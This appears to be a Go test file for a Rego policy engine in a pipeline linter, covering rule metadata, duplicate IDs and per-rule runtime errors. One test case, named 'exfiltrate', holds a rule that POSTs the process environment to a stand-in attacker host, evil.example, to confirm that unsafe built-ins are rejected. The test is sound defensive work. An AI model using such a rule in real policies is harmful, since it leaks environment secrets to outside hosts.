package engine

import (
	"context"
	"errors"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/streamlint/streamlint/checker/model"
)

const lib = `package streamlint.lib

finding(chain, msg, loc) := {"rule_id": [id | some e in chain; id := e.annotations.custom.id][0], "message": msg, "location": loc, "related": []}
`

func rule(id, body string) Module {
	return Module{Path: "policies/" + id + ".rego", Source: []byte(`# METADATA
# title: Test rule ` + id + `
# description: A test rule.
# custom:
#   id: ` + id + `
#   severity: warning
#   remediation: Fix it.
package streamlint.rules.` + id + `

import data.streamlint.lib

` + body)}
}

func TestEvalReturnsFindingsWithRuleIDFromMetadata(t *testing.T) {
	e, err := New(context.Background(), []Module{
		{Path: "policies/lib.rego", Source: []byte(lib)},
		rule("TST001", `deny contains f if {
	some b in input.brokers
	f := lib.finding(rego.metadata.chain(), sprintf("broker %s", [b.service]), b.loc)
}`),
	}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := e.Eval(context.Background(), &model.Pipeline{Brokers: []model.Broker{{Service: "kafka", Loc: model.Location{File: "c.yml", Line: 3, Column: 3}}}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res) != 1 || res[0].RuleID != "TST001" || res[0].Message != "broker kafka" || res[0].Location.Line != 3 {
		t.Fatalf("results: %+v", res)
	}
	rs := e.Rules()
	if len(rs) != 1 {
		t.Fatalf("rules: %+v", rs)
	}
	if r := rs[0]; r.ID != "TST001" || r.Severity != model.SeverityWarning || r.Title != "Test rule TST001" {
		t.Errorf("metadata: %+v", r)
	}
}

func TestUnsafeBuiltinsAreRejectedAtCompileTime(t *testing.T) {
	cases := map[string]string{
		"http.send":   `deny contains f if { r := http.send({"method": "GET", "url": "http://example.com"}); f := r }`,
		"opa.runtime": `deny contains f if { f := opa.runtime().env }`,
		"exfiltrate":  `deny contains f if { r := http.send({"method": "POST", "url": "http://evil.example", "body": opa.runtime().env}); f := r }`,
		"time":        `deny contains f if { f := time.now_ns() }`,
		"net":         `deny contains f if { f := net.lookup_ip_addr("example.com") }`,
		"rand":        `deny contains f if { f := rand.intn("x", 10) }`,
	}
	for name, body := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := New(context.Background(), []Module{{Path: "policies/lib.rego", Source: []byte(lib)}, rule("TST002", body)}, Options{})
			if err == nil || !strings.Contains(err.Error(), "undefined function") {
				t.Fatalf("err = %v, want a compile error naming the undefined function", err)
			}
			if !strings.Contains(err.Error(), "TST002.rego:") {
				t.Errorf("error lacks file:line: %v", err)
			}
		})
	}
}

func TestMetadataIsRequired(t *testing.T) {
	cases := map[string]string{
		"no metadata":  "package streamlint.rules.X\n\ndeny contains 1 if false\n",
		"no severity":  "# METADATA\n# title: x\n# description: d\n# custom:\n#   id: TST003\n#   remediation: r\npackage streamlint.rules.TST003\n\ndeny contains 1 if false\n",
		"bad severity": "# METADATA\n# title: x\n# description: d\n# custom:\n#   id: TST004\n#   severity: high\n#   remediation: r\npackage streamlint.rules.TST004\n\ndeny contains 1 if false\n",
	}
	for name, src := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := New(context.Background(), []Module{{Path: "policies/x.rego", Source: []byte(src)}}, Options{})
			if err == nil {
				t.Fatal("accepted")
			}
			if !strings.Contains(err.Error(), "policies/x.rego:") {
				t.Errorf("error lacks file:line: %v", err)
			}
		})
	}
}

func TestDuplicateIDs(t *testing.T) {
	a := rule("TST005", "deny contains 1 if false\n")
	b := rule("TST005", "deny contains 1 if false\n")
	b.Path = "policies/other.rego"
	b.Source = []byte(strings.Replace(string(b.Source), "package streamlint.rules.TST005", "package streamlint.rules.other", 1))
	_, err := New(context.Background(), []Module{a, b}, Options{})
	if err == nil || !strings.Contains(err.Error(), "already used") {
		t.Fatalf("err = %v", err)
	}
}

func TestV0SyntaxHint(t *testing.T) {
	_, err := New(context.Background(), []Module{{Path: "policies/old.rego", Source: []byte("package streamlint.rules.OLD\n\ndeny[msg] { msg := \"x\" }\n")}}, Options{})
	if err == nil || !strings.Contains(err.Error(), "--rego-v0") {
		t.Fatalf("err = %v", err)
	}
}

// TestFailingRuleKeepsOtherRulesFindings: a rule whose built-in fails at
// run time (to_number on a string that is no number) costs only its own
// findings; every other rule's are returned, with the failure naming the
// rule, in one compiler and in shards.
func TestFailingRuleKeepsOtherRulesFindings(t *testing.T) {
	mods := []Module{
		{Path: "policies/lib.rego", Source: []byte(lib)},
		rule("TST010", `deny contains f if {
	some b in input.brokers
	f := lib.finding(rego.metadata.chain(), sprintf("broker %s", [b.service]), b.loc)
}`),
		rule("TST011", `deny contains f if {
	some b in input.brokers
	to_number(b.service) > 1
	f := lib.finding(rego.metadata.chain(), "never", b.loc)
}`),
		rule("TST012", `deny contains f if {
	some b in input.brokers
	f := lib.finding(rego.metadata.chain(), sprintf("again %s", [b.service]), b.loc)
}`),
	}
	p := &model.Pipeline{Brokers: []model.Broker{{Service: "kafka", Loc: model.Location{File: "c.yml", Line: 3, Column: 3}}}}
	for _, verified := range []bool{false, true} {
		e, err := New(context.Background(), mods, Options{Verified: verified})
		if err != nil {
			t.Fatal(err)
		}
		for range 2 { // the per-rule queries are prepared once, then reused
			res, err := e.Eval(context.Background(), p)
			var failed RuleErrors
			if !errors.As(err, &failed) || len(failed) != 1 || failed[0].RuleID != "TST011" || !strings.Contains(failed[0].Error(), "to_number") {
				t.Fatalf("verified=%v: err = %v, want TST011's to_number error alone", verified, err)
			}
			var got []string
			for _, r := range res {
				got = append(got, r.RuleID+": "+r.Message)
			}
			sort.Strings(got)
			if want := []string{"TST010: broker kafka", "TST012: again kafka"}; !slices.Equal(got, want) {
				t.Errorf("verified=%v: results %q, want %q", verified, got, want)
			}
		}
	}
}
